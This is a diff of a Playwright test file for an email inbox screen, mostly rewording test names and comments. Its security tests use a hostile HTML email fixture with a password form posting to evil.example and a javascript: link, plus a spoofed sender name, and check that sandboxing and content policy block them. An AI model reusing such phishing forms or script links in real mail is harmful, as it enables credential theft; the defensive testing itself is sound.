@@ -12,9 +12,7 @@ const rows = (page: Page) => page.getByRole("list", { name: "Conversations" }).g
 const row = (page: Page, subject: string) => rows(page).filter({ hasText: subject });
 const reading = (page: Page, subject: string) => page.getByRole("region", { name: subject });
 
-test("without a mailbox the screen says why one is worth it and leads to where it is connected @deep", async ({
-  page,
-}) => {
+test("without a mailbox the screen explains why to connect one, and links there @deep", async ({ page }) => {
   await register(page);
   await page.goto(screen);
   await expect(page.getByRole("heading", { name: "Your email, next to your customers" })).toBeVisible();
@@ -24,7 +22,7 @@ test("without a mailbox the screen says why one is worth it and leads to where i
   );
 });
 
-test("a conversation is found, read with its quotes folded, and what was done about it is told", async ({ page }) => {
+test("a conversation is found, read with its quotes collapsed, and its activity is listed", async ({ page }) => {
   await register(page);
   const mailbox = await makeMailbox(page);
   const { id, emails } = await makeConversation(page, mailbox, {
@@ -75,7 +73,7 @@ test("a conversation is found, read with its quotes folded, and what was done ab
   await expectAccessible(page);
 });
 
-test("a sender whose name looks like another one is called by their address, and several senders are told @deep", async ({
+test("a sender whose name looks like another address is shown by their own, and multiple senders are flagged @deep", async ({
   page,
 }) => {
   await register(page);
@@ -89,14 +87,14 @@ test("a sender whose name looks like another one is called by their address, and
   await expect(row(page, "Pay this")).not.toContainText("boss@vanda.example");
   await row(page, "Pay this").click();
   const mail = reading(page, "Pay this").getByRole("article", { name: "attacker@evil.example" });
-  // Neither is it shown beside the mail, where a contact is made of it.
+  // The panel next to the email, where a contact is created from it, does not show it either.
   await expect(page.getByText("boss@vanda.example", { exact: true })).toHaveCount(0);
   await expect(mail).toContainText("The sender name “boss@vanda.example” looks like another address.");
   await expect(mail).toContainText("This email lists several senders: attacker@evil.example and lee@oak.example.");
   await expectAccessible(page);
 });
 
-test("the inbox is sorted by the keyboard, and each step is taken back from its toast", async ({ page }) => {
+test("the inbox is sorted by keyboard, and each step is undone from its toast", async ({ page }) => {
   await register(page);
   const mailbox = await makeMailbox(page);
   for (const [place, subject] of ["Third", "Second", "First"].entries())
@@ -126,7 +124,7 @@ test("the inbox is sorted by the keyboard, and each step is taken back from its 
   await expect(page.getByText("No conversations match")).toBeVisible();
 });
 
-test("a key pressed as soon as the inbox shows is not lost while its mailboxes load @deep", async ({ page }) => {
+test("a key pressed as soon as the inbox appears is not lost while its mailboxes load @deep", async ({ page }) => {
   await register(page);
   await makeConversation(page, await makeMailbox(page), { from: nadia, subject: "Desks", said: [{ text: "Hello" }] });
   const held = Promise.withResolvers<void>();
@@ -146,7 +144,7 @@ test("a key pressed as soon as the inbox shows is not lost while its mailboxes l
   await expect(row(page, "Desks")).toContainText("Unread.");
 });
 
-test("several are sorted at once, and what came meanwhile appears by itself @deep", async ({ page }) => {
+test("several conversations are sorted together, and new ones appear automatically @deep", async ({ page }) => {
   await register(page);
   const mailbox = await makeMailbox(page);
   for (const subject of ["One", "Two", "Three"])
@@ -164,7 +162,7 @@ test("several are sorted at once, and what came meanwhile appears by itself @dee
   await expect(rows(page)).toHaveCount(4);
 });
 
-test("a colleague reads what a linked mailbox has of known contacts, and may not sort it @deep", async ({
+test("a colleague reads the emails of known contacts in a linked mailbox, and cannot sort them @deep", async ({
   page,
   browser,
   baseURL,
@@ -197,11 +195,11 @@ const hostile = (port: string) => `<!doctype html><html><head>
   <form action="https://evil.example/form"><input name="password" value="abc"><button>Sign in again</button></form>
   <a href="javascript:parent.pwned=1">Run</a> <a href="https://fine.example:${port}/page" target="_self" rel="opener">Our page</a></body></html>`;
 
-/** What leaves the browser for elsewhere, and whether anything of a mail ran. */
+/** Records requests to other hosts, and whether any script of an email ran. */
 async function watch(page: Page) {
   const asked: string[] = [];
   const own = new URL(page.url()).origin;
-  // What a policy refuses never gets here.
+  // Requests blocked by a policy never get here.
   await page.context().route(
     (url) => url.origin !== own,
     async (route) => {
@@ -235,7 +233,7 @@ async function openHostile(page: Page) {
 const showDesigned = (page: Page) => page.getByRole("button", { name: "Show with formatting" }).click();
 const frame = (page: Page) => page.frameLocator("article iframe");
 
-test("a hostile mail does nothing, loads nothing and leads nowhere but out", async ({ page, context }) => {
+test("a hostile email runs nothing, loads nothing, and its links only open new tabs", async ({ page, context }) => {
   const watched = await openHostile(page);
   await showDesigned(page);
   await expect(frame(page).getByRole("heading", { name: "Hostile" })).toBeVisible();
@@ -244,7 +242,7 @@ test("a hostile mail does nothing, loads nothing and leads nowhere but out", asy
   ).toHaveCount(0);
   await frame(page).getByText("Run").click();
   await watched.expectNothing();
-  // What leads out opens a tab of its own, which knows nothing of where it came from.
+  // External links open a new tab, without opener or referrer.
   await context.route("https://fine.example:1/**", (route) =>
     route.fulfill({ contentType: "text/html", body: "<p>Outside</p>" }),
   );
@@ -255,11 +253,11 @@ test("a hostile mail does nothing, loads nothing and leads nowhere but out", asy
   expect(await outside.evaluate(() => [opener, document.referrer])).toEqual([null, ""]);
 });
 
-test.describe("were a mail shown as it came", () => {
-  // Chromium says what it refused.
+test.describe("if an email were shown unsanitised", () => {
+  // Chromium logs what it blocked.
   test.use({ allowedConsole: /Refused|blocked|violates|Blocked|sandboxed|Content Security Policy|ERR_/i });
 
-  test("its frame and the headers of its page would still keep all of it from running, loading and sending @deep", async ({
+  test("its frame and the page's headers would still block scripts, requests and forms @deep", async ({
     page,
     context,
   }) => {
@@ -275,7 +273,7 @@ test.describe("were a mail shown as it came", () => {
   });
 });
 
-test("on a telephone the list and a conversation are two steps @deep", async ({ page }) => {
+test("on a phone the list and a conversation are two steps @deep", async ({ page }) => {
   await page.setViewportSize({ width: 375, height: 700 });
   await register(page);
   const mailbox = await makeMailbox(page);
